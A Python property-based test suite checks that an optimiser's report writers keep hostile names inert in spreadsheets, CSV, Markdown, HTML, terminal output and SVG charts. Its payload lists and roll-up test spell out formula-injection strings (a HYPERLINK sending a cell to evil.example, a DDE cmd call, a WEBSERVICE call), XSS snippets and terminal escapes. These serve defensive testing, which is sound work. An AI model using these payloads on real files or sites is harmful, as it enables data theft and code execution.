"""Hostile names never become live output (issue 15): property-based tests (hypothesis).

Names, descriptions and file names are drawn from alphabets of characters that make
markup or formulas somewhere (`=+-@` for spreadsheets, Markdown's and HTML's
punctuation, rich's `[...]` markup and `:emoji:` codes, TeX dollars, control
characters where the input can carry them). For each kind of output the layer in
`optimiser.safe` is checked on its own (many examples, fast), and a tiny place with
hostile names is run through every writer (few examples): no spreadsheet formula,
no CSV field a spreadsheet would run, no Markdown or HTML markup, no terminal escape
or markup, charts drawn with the text as written; the figures are the ones solved.
"""

from __future__ import annotations

import csv
import html
import io
import json
import math
import re
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree

import openpyxl
import pandas as pd
import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from rich.console import Console
from rich.errors import MarkupError

from optimiser.analyses import run_analyses
from optimiser.pipeline import run
from optimiser.reports.drawing import Drawing, Frame, Key
from optimiser.reports.terminal import print_run
from optimiser.reports.write import (
    write_documents,
    write_gains_pictures,
    write_limits,
    write_tables,
)
from optimiser.safe import (
    FORMULA_START,
    PlainConsole,
    cell_text,
    html_text,
    md_link,
    md_text,
    printable,
    url_segment,
    write_csv,
)

FAST = settings(derandomize=True, deadline=None, database=None, max_examples=150)
SLOW = settings(derandomize=True, deadline=None, database=None, max_examples=4,
                suppress_health_check=[HealthCheck.function_scoped_fixture,
                                       HealthCheck.too_slow])

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "[x](javascript:alert(1))",
    "# Injected heading", "Council [/bold] budget", "[link=http://evil]x[/link]", ":x: :smile:",
    r"NHS $\foo$ budget", "NHS $5 to $6", "**b** _e_ `c` ~~s~~", "| a | b |", "&amp; &#60;",
    "1. list", "> quote", "![i](http://evil/x.png)", "<http://evil>", "\\", "{}", "^[n]",
]
HOSTILE = "=+-@<>\"'&[]()*_`#|~$\\:/;!{}^%. \u00a3\u20ac"
one_line = st.one_of(
    st.sampled_from(PAYLOADS),
    st.text(st.sampled_from(HOSTILE + "aZ09"), min_size=1, max_size=24),
    st.builds(lambda a, b: a + b, st.sampled_from(PAYLOADS),
              st.text(st.sampled_from(HOSTILE), max_size=6)),
)
"""Names an instance may hold (one line, no control characters)."""
CONTROL = "\x1b[2J\x07\x00\x08\r\n\t\x7f\x9b\u202e\u2028\ufeff"
any_text = st.one_of(one_line, st.text(st.sampled_from(HOSTILE + CONTROL + "aZ"), max_size=30))
"""Text from anywhere (file names, messages): control characters too."""

MD = MarkdownIt("commonmark").enable("table").enable("strikethrough")


def inline_kinds(rendered: str) -> set[str]:
    """The kinds of inline token Markdown makes of `rendered`."""
    kinds = set()
    for token in MD.parse(rendered):
        kinds.add(token.type)
        for child in token.children or []:
            kinds.add(child.type)
    return kinds


LIVE_MD = {"link_open", "image", "html_inline", "html_block", "em_open", "strong_open",
           "bullet_list_open",
           "code_inline", "s_open", "heading_open", "blockquote_open", "ordered_list_open",
           "fence", "code_block", "hr"}


def rendered_text(rendered: str) -> str:
    """The text Markdown shows for `rendered` (one paragraph, list item or cell)."""
    return "".join(child.content for token in MD.parse(rendered) if token.type == "inline"
                   for child in token.children or [] if child.type == "text")


# ------------------------------------------------------------- each layer on its own


@FAST
@given(any_text)
def test_cell_text_is_never_a_formula(text: str) -> None:
    safe = cell_text(text)
    assert not safe.lstrip().startswith(FORMULA_START) or safe.strip() in ("-", "+")
    assert safe in (printable(text, lines=True), "'" + printable(text, lines=True))


def structure(rendered: str) -> list[str]:
    """The kinds of token Markdown makes of `rendered`, its text left out."""
    return [kind for token in MD.parse(rendered)
            for kind in [token.type, *(c.type for c in token.children or [])]
            if kind not in ("text", "text_special")]


WRAPPERS = [lambda t: f"- {md_text(t)}", lambda t: f"**{md_text(t)}**", md_text,
            lambda t: f"# {md_text(t)}",
            lambda t: f"| a |\n| --- |\n| {md_text(t, line_start=False)} |"]
"""How the summaries place text: a list item, bold, a paragraph, a heading, a table cell."""


@FAST
@given(any_text)
def test_markdown_text_is_inert_and_shown_as_written(text: str) -> None:
    """Wherever the summary puts it, the text makes the same markup as a plain word."""
    if not printable(text).strip():
        return
    for wrap in WRAPPERS:
        assert structure(wrap(text)) == structure(wrap("word")), wrap(text)
    shown = printable(text).strip()
    assert rendered_text(f"- {md_text(text)}").strip() == shown


@FAST
@given(any_text)
def test_markdown_link_goes_where_it_says(text: str) -> None:
    stem = printable(text).strip(".") or "x"
    tokens = [c for t in MD.parse(f"- {md_link(text, stem, 'report.html')}")
              if t.type == "inline" for c in t.children or []]
    links = [c for c in tokens if c.type == "link_open"]
    assert len(links) == 1
    href = links[0].attrs["href"]
    assert ":" not in href.split("/")[0] and href.endswith("/report.html")
    assert href.count("/") == 1


@FAST
@given(any_text)
def test_html_text_is_escaped(text: str) -> None:
    safe = html_text(text)
    assert not set(safe) & set("<>\"'")
    assert html.unescape(safe) == printable(text, lines=True)
    assert re.fullmatch(r"[A-Za-z0-9_.~%-]*", url_segment(printable(text).strip(".") or "x"))


@FAST
@given(any_text)
def test_terminal_prints_text_as_written(text: str) -> None:
    out = io.StringIO()
    console = PlainConsole(file=out, force_terminal=True, color_system="truecolor", width=400)
    console.print(text, soft_wrap=True)
    console.print(_table(text))
    printed = out.getvalue()
    first = printed.split("\n")[0]
    assert "\x1b" not in first  # plain text: no style of markup's, no escape of the input's
    assert first == printable(text, lines=True).split("\n")[0]
    styles = re.sub(r"\x1b\[[0-9;]*m", "", printed)  # the table's own bold and italics
    assert "\x1b" not in styles


def _table(text: str) -> object:
    from rich.table import Table

    table = Table(title=text)
    table.add_column(text)
    table.add_row(text)
    return table


@FAST
@given(st.lists(st.tuples(any_text, st.floats(-1e12, 1e12, allow_nan=False)), min_size=1,
                max_size=4))
def test_csv_fields_are_inert_and_numbers_stay_numbers(rows: list[tuple[str, float]]) -> None:
    frame = pd.DataFrame(rows, columns=["name", "amount"])
    import tempfile

    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "t.csv"
        write_csv(frame, path)
        with path.open(newline="", encoding="utf-8") as handle:
            read = list(csv.reader(handle))
    assert read[0] == ["name", "amount"]
    for (name, amount), (field, number) in zip(rows, read[1:], strict=True):
        assert not field.lstrip().startswith(FORMULA_START) or field.strip() in ("-", "+")
        assert field in (printable(name, lines=True), "'" + printable(name, lines=True))
        assert float(number) == pytest.approx(amount, rel=1e-9, abs=1e-9)


@FAST
@given(st.lists(st.tuples(
    st.one_of(st.none(), st.text(st.sampled_from("aZ ,=+-@'\"\t\n\u00e9\u202e"), max_size=3),
              st.sampled_from(PAYLOADS), any_text),
    st.integers(-10**12, 10**12),
    st.one_of(st.floats(width=64), st.sampled_from([-0.0, 0.0, 5e-324, math.nan, math.inf]))),
    max_size=6))
def test_csv_bytes_are_the_ones_pandas_writes(rows: list[tuple[str | None, int, float]]) -> None:
    # write_csv joins most tables itself: the bytes must be pandas' own for the same
    # table made safe (text fields through cell_text, missing text blank, floats to 10
    # significant figures, NaN blank), quoting and all.
    frame = pd.DataFrame(rows, columns=["name", "year", "amount"]).astype(
        {"year": "int64", "amount": "float64"})
    safe = frame.assign(name=[cell_text(v) if isinstance(v, str) else v for v in frame["name"]])
    import tempfile

    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "t.csv"
        write_csv(frame, path)
        expected = safe.to_csv(index=False, float_format="%.10g", lineterminator="\n")
        assert path.read_bytes() == expected.encode("utf-8")

@settings(derandomize=True, deadline=None, database=None, max_examples=30)
@given(any_text)
def test_charts_draw_text_as_written(text: str) -> None:
    """Text from the input in a chart (a title, a row label, a legend key) is drawn as
    written, line by line, and never becomes markup: the SVG is well-formed, holds only the
    elements the drawing made, and each text element reads back as the printable text."""
    d = Drawing(300, 200)
    d.text(10, 20, text, 10, bold=True)
    Frame(100, 40, 180, 60, 0.0, 1.0, 1).row_labels(d, [text])
    d.legend([Key(text, "#000000", hatch=True)], 10, 120, 280)
    root = ElementTree.fromstring(d.svg("x", standalone=True).encode("utf-8"))
    tags = {e.tag.split("}")[1] for e in root.iter()}
    assert tags <= {"svg", "defs", "pattern", "path", "rect", "text", "tspan"}, tags
    shown = printable(text, lines=True).split("\n")
    texts = [e for e in root.iter() if e.tag.endswith("}text")]
    assert len(texts) == 3
    for element in texts:
        spans = [e for e in element if e.tag.endswith("}tspan")]
        read = [s.text or "" for s in spans] if spans else [element.text or ""]
        assert read == shown


# ------------------------------------------------- a place with hostile names, end to end

PLACE = {
    "years": 2, "start_year": 2010, "discount_rate": 0.0, "currency": "USD",
    "agencies": {"council": {}, "nhs": {}, "pct": {}},
    "streams": {"asc": {"agency": "council", "budget": 100},
                "nhs_budget": {"agency": "nhs", "budget": 1000}},
    "interventions": {
        "prevention": {"agency": "council", "unit_cost": 10, "max_units": 50,
                       "savings": {"nhs": 40, "pct": 1}, "effects": {"adm": 1}},
        "beds": {"agency": "nhs", "unit_cost": 100, "max_units": 5, "savings": {"nhs": 50}}},
    "outcomes": {"adm": {"target": 5}},
    "scenarios": {"ring_fenced": {"pooling": False}, "pooled": {"pooling": True},
                  "agreed": {"pooling": True, "agreement": "fair_shares"}},
}
"""TOY (tests/test_core.py) without discounting: pooled buys 50 preventions and 2 beds
(council's 100 and 800 of the NHS's 1000 on prevention, 200 on beds: 100 + 1000 spent);
ring-fenced 10 preventions and 10 beds' worth of NHS money on beds (5 beds, max). A third
agency with no budget gains 1 a prevention: it gains from pooling with a fair share of 0,
so the documents write the fair-share note and the agreed scenario's three-way positions
with its name."""


class Tags(HTMLParser):
    """Every tag and attribute of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def hostile_place(tmp_path: Path, names: list[str]) -> Path:
    place = json.loads(json.dumps(PLACE))
    place["name"] = names[0]
    place["agencies"]["council"]["name"] = names[1]
    place["agencies"]["nhs"]["name"] = names[2]
    place["streams"]["asc"]["name"] = names[3]
    place["interventions"]["prevention"]["name"] = names[4]
    place["outcomes"]["adm"]["name"] = names[5]
    place["scenarios"]["pooled"]["description"] = names[6]
    place["agencies"]["pct"]["name"] = names[7]
    path = tmp_path / "place.yaml"
    path.write_text(yaml.safe_dump(place, allow_unicode=True), encoding="utf-8")
    return path


def documents(folder: Path, names: list[str], parts: tuple[str, ...] = ("xlsx", "html", "md")
              ) -> object:
    """Run the place with these names and write its tables and documents into `folder`."""
    result = run(hostile_place(folder, names))
    run_analyses(result, ["limits"])  # its sentences name the capped intervention
    write_tables(result, folder)
    write_documents(result, folder, parts)
    return result


def page_tags(folder: Path) -> list[tuple[str, dict[str, str | None]]]:
    parser = Tags()
    parser.feed((folder / "report.html").read_text(encoding="utf-8"))
    return parser.tags


@pytest.fixture(scope="module")
def plain(tmp_path_factory: pytest.TempPathFactory) -> tuple[list[str], list[str]]:
    """The summary's markup and the page's tags with plain names."""
    folder = tmp_path_factory.mktemp("plain")
    documents(folder, ["plain"] * 8, ("html", "md"))
    return (structure((folder / "summary.md").read_text(encoding="utf-8")),
            [tag for tag, _ in page_tags(folder)])


@SLOW
@given(st.lists(one_line, min_size=8, max_size=8))
def test_every_writer_keeps_hostile_names_inert(tmp_path_factory: pytest.TempPathFactory,
                                                 plain: tuple[list[str], list[str]],
                                                 names: list[str]) -> None:
    folder = tmp_path_factory.mktemp("hostile")
    result = documents(folder, names)
    assert [s.status for s in result.scenarios] == ["optimal"] * 3
    # the figures are the ones solved, whatever the names
    units = result.scenario("pooled").allocation.groupby("intervention")["units"].sum()
    assert units["prevention"] == pytest.approx(100)  # 50 a year for 2 years
    # spreadsheet: no formula cell, no text a spreadsheet would run
    book = openpyxl.load_workbook(folder / "report.xlsx")
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.strip() not in ("", "-", "+"):
                    assert not cell.value.lstrip().startswith(FORMULA_START), cell.value
    # the positions three ways and the fair-share note carry the third agency's name inert
    who = list(book["Who gains"].iter_rows(values_only=True))
    rows = {(r[0], r[3]): r for r in who if r[3] is not None}
    assert rows[("agreed", "pct")][4] == cell_text(names[7])
    assert rows[("agreed", "pct")][9] == pytest.approx(-80)  # 1 x 50 x 2 years - 1 x 10 x 2
    notes = [r[1] for r in who if r[0] == "agreed" and r[3] is None]
    assert any(cell_text(names[7]) in str(n) and "share of the gain is" in str(n)
               for n in notes), notes
    # the limits' words carry the capped intervention's name as written
    said = [r[7] for r in book["Limits"].iter_rows(min_row=2, values_only=True)
            if r[0] == "pooled" and r[2] == "prevention"]
    assert said and f"of {names[4]} is worth" in str(said[0]), said
    # CSV: every text field inert
    for path in folder.glob("*.csv"):
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")):
            for field in row:
                assert not field.lstrip().startswith(FORMULA_START) or field.strip() in (
                    "-", "+") or _number(field), (path.name, field)
    # Markdown: exactly the markup of the same summary with plain names
    assert structure((folder / "summary.md").read_text(encoding="utf-8")) == plain[0]
    # HTML: only tags the same page has with plain names (charts wrap long names onto
    # more lines), as many links, images and scripts; no script in attributes
    tags = page_tags(folder)
    kinds = [tag for tag, _ in tags]
    assert set(kinds) <= set(plain[1])
    for live in ("script", "a", "img", "iframe", "object", "embed", "link", "form", "style"):
        assert kinds.count(live) == plain[1].count(live), live
    assert not [a for _, attrs in tags for k, a in attrs.items()
                if k.startswith("on") or (a or "").lower().startswith("javascript:")]
    # terminal: no markup obeyed, no escape from the input, no emoji
    out = io.StringIO()
    print_run(result, PlainConsole(file=out, width=300, force_terminal=False), folder, True)
    printed = out.getvalue()
    assert "\x1b" not in printed
    assert printable(names[2]).strip()[:20] in printed


def test_units_and_valued_outcomes_stay_inert(tmp_path: Path) -> None:
    """Two texts the place above leaves out: an intervention's unit reaches limits.csv
    ('<unit> a year', its capped prevention) and a valued outcome's name the summary's
    paragraph on what net benefit is made of; both inert (each was written as given)."""
    place = json.loads(json.dumps(PLACE))
    place["name"] = "Place"
    place["interventions"]["prevention"]["unit"] = "@SUM(1) <b>visit</b>"
    place["outcomes"]["adm"].update(name="=1+1 <b>admission</b> *avoided*", value=1)
    path = tmp_path / "place.yaml"
    path.write_text(yaml.safe_dump(place), encoding="utf-8")
    result = run(path)
    run_analyses(result, ["limits"])
    write_limits(result, tmp_path)
    write_documents(result, tmp_path, ("md",))
    fields = [field for row in csv.reader(io.StringIO(
        (tmp_path / "limits.csv").read_text(encoding="utf-8"), newline="")) for field in row]
    assert "'@SUM(1) <b>visit</b> a year" in fields
    assert not [f for f in fields if f.lstrip().startswith(FORMULA_START) and not _number(f)]
    summary = (tmp_path / "summary.md").read_text(encoding="utf-8")
    assert "\\<b>admission\\</b> \\*avoided\\* at \\$1 each" in summary
    assert not re.search(r"(?<!\\)<b>", summary)


def _number(field: str) -> bool:
    try:
        float(field)
    except ValueError:
        return False
    return True


def test_dollars_in_names_are_drawn_as_written(tmp_path: Path) -> None:
    """The probe: `NHS $\\foo$ budget` crashed the charts' old maths text (exit 3), and
    `NHS $5 to $6` was drawn in italics as 'NHS 5to6': the picture and the page draw both
    as written."""
    names = ["NHS $5 to $6", r"NHS $\foo$ budget", "NHS $5 to $6", "x", "y", "z", "w",
             "PCT $5 to $6"]
    result = run(hostile_place(tmp_path, names))
    run_analyses(result, [])
    write_gains_pictures(result, tmp_path)
    picture = (tmp_path / "gains.svg").read_text(encoding="utf-8")
    ElementTree.fromstring(picture.encode("utf-8"))
    assert r"NHS $\foo$ budget" in picture and "NHS $5 to $6" in picture
    write_documents(result, tmp_path, ["html"])
    page = (tmp_path / "report.html").read_text(encoding="utf-8")
    assert r"NHS $\foo$ budget" in page and "NHS $5 to $6" in page


def test_rich_markup_in_a_name_is_printed_not_obeyed() -> None:
    """The probe: `Council [/bold] budget` crashed the run after the reports were written."""
    out = io.StringIO()
    console = PlainConsole(file=out, width=200)
    console.print("Council [/bold] budget [link=http://evil]x[/link] :x:")
    assert out.getvalue() == "Council [/bold] budget [link=http://evil]x[/link] :x:\n"
    plain = Console(file=io.StringIO())
    with pytest.raises(MarkupError):  # what an ordinary console does with it
        plain.print("Council [/bold] budget")


def test_hostile_names_through_the_command(tmp_path: Path) -> None:
    """The probe's names, through the command line: exit 0, printed as written."""
    from typer.testing import CliRunner

    from optimiser.cli import app

    names = ["Place :x:", "Council [/bold] budget", "NHS [link=http://evil]x[/link] $5 to $6",
             "asc", "prevention", "adm", "d", "PCT :x: [b]y[/b]"]
    path = hostile_place(tmp_path, names)
    done = CliRunner().invoke(app, [str(path), "--out", str(tmp_path / "out"),
                                    "--analyses", "none"])
    assert done.exit_code == 0, done.output
    assert "Council [/bold] budget" in done.stdout and ":x:" in done.stdout
    assert "NHS [link=http://evil]x[/link] $5 to $6" in done.stdout


@pytest.mark.parametrize("text, line", [
    ('"Council\\x1b[2J"', 6), ('"NHS\\n# Injected heading"', 6), ("\"\\u202eNHS\"", 6),
    ('"\\tTabbed"', 6)])
def test_control_characters_in_names_are_refused(tmp_path: Path, text: str, line: int) -> None:
    from typer.testing import CliRunner

    from optimiser.cli import app

    place = yaml.safe_dump(PLACE, sort_keys=False).replace(
        "  council: {}\n", f"  council: {{name: {text}}}\n")
    path = tmp_path / "place.yaml"
    path.write_text(place, encoding="utf-8")
    done = CliRunner().invoke(app, [str(path), "--out", str(tmp_path / "out")])
    assert done.exit_code == 2, done.output
    assert f"line {line}, at agencies.council.name: must be one line of text without " \
           "control characters" in done.stderr
    assert "\x1b" not in done.stderr


def test_rollup_of_hostile_file_names(tmp_path: Path) -> None:
    """The probe: a file named `x"&WEBSERVICE(...)&".yaml` became a live formula in the
    roll-up's report.xlsx, and `=HYPERLINK(...).yaml` a formula-looking field in rollup.csv;
    a file name made the roll-up's links leave their folder."""
    from typer.testing import CliRunner

    from optimiser.cli import app

    text = yaml.safe_dump(PLACE)
    stems = ['x"&WEBSERVICE("http:"&CHAR(47)&"evil")&"', '=HYPERLINK("http:evil","x")',
             "javascript:alert(1)"]
    paths = []
    for stem in stems:
        paths.append(tmp_path / f"{stem}.yaml")
        paths[-1].write_text(text.replace("years: 2", f"name: {json.dumps(stem)}\nyears: 2"))
    out = tmp_path / "out"
    done = CliRunner().invoke(app, [*map(str, paths), "--out", str(out), "--analyses", "none"])
    assert done.exit_code == 0, done.output
    book = openpyxl.load_workbook(out / "report.xlsx")
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    links = [c.hyperlink.target for row in book["Places"].iter_rows(min_row=2) for c in row
             if c.hyperlink is not None]
    assert len(links) == 3 and all(":" not in link and '"' not in link for link in links)
    with (out / "rollup.csv").open(newline="", encoding="utf-8") as handle:
        places = {row["place"] for row in csv.DictReader(handle)}
    assert "'" + stems[1] in places and stems[0] in places
    assert not any(p.startswith(FORMULA_START) for p in places)
    page = page_tags(out)
    hrefs = [attrs["href"] for tag, attrs in page if tag == "a" and "href" in attrs
             and not attrs["href"].startswith("#")]
    assert len(hrefs) == 3 and all(":" not in h.split("/")[0] for h in hrefs)
    summary = (out / "summary.md").read_text(encoding="utf-8")
    targets = [c.attrs["href"] for t in MD.parse(summary) if t.type == "inline"
               for c in t.children or [] if c.type == "link_open"]
    assert sorted(targets) == sorted(f"{url_segment(s)}/report.html" for s in stems)


@pytest.mark.parametrize("name, problem", [
    ("..yaml", "starts with a dot"), ("...yaml", "starts with a dot"),
    ("report.html.yaml", "the roll-up writes a file called report.html")])
def test_rollup_file_names_that_cannot_name_a_folder(tmp_path: Path, name: str,
                                                     problem: str) -> None:
    from typer.testing import CliRunner

    from optimiser.cli import app

    text = yaml.safe_dump({"name": "A place", **PLACE})
    (tmp_path / name).write_text(text)
    (tmp_path / "other.yaml").write_text(text)
    done = CliRunner().invoke(app, [str(tmp_path / name), str(tmp_path / "other.yaml"),
                                    "--out", str(tmp_path / "out")])
    assert done.exit_code == 2, done.output
    assert problem in done.stderr
    assert not (tmp_path / "out").exists()


# ------------------------------------------------------------ figures are as written


@FAST
@given(st.integers(0, 10**12), st.integers(0, 3), st.sampled_from(["", "-", "+"]))
def test_yaml_numbers_are_read_as_written_or_refused(n: int, zeros: int, sign: str) -> None:
    """A whole number is its decimal value, never octal; zero-padded it is refused."""
    from optimiser.errors import InstanceError
    from optimiser.inputs.yamlsource import parse_yaml

    text = sign + "0" * zeros + str(n)
    try:
        value = parse_yaml(f"name: x\nbudget: {text}\n", "x.yaml").data["budget"]
    except InstanceError as err:
        assert text.lstrip("+-").startswith("0") and len(text.lstrip("+-")) > 1
        assert "starts with a zero" in str(err) and "line 2" in str(err)
        return
    assert value == int(text)


@FAST
@given(st.integers(0, 10**9), st.integers(0, 99), st.sampled_from(["", "£", "€", "$"]),
       st.booleans())
def test_table_figures_are_read_as_written(units: int, pence: int, symbol: str,
                                           commas: bool) -> None:
    """'£1,234.56', '1234.56', '€12': the figure written, or refused; never another."""
    from optimiser.inputs.tables import parse_number

    whole = f"{units:,}" if commas else str(units)
    for text, expected in ((f"{symbol}{whole}", units), (f"{symbol}{whole}.{pence:02d}",
                                                         units + pence / 100)):
        value, error = parse_number(text)
        assert error is None and value == pytest.approx(expected, rel=1e-12), text
    dotted = f"{symbol}{units:,}".replace(",", ".")  # European thousands
    value, error = parse_number(dotted)
    if "." in dotted and (symbol or dotted.count(".") > 1):
        assert value is None and "ambiguous" in str(error)
    else:
        assert value is None or value == pytest.approx(float(dotted.lstrip(symbol)))
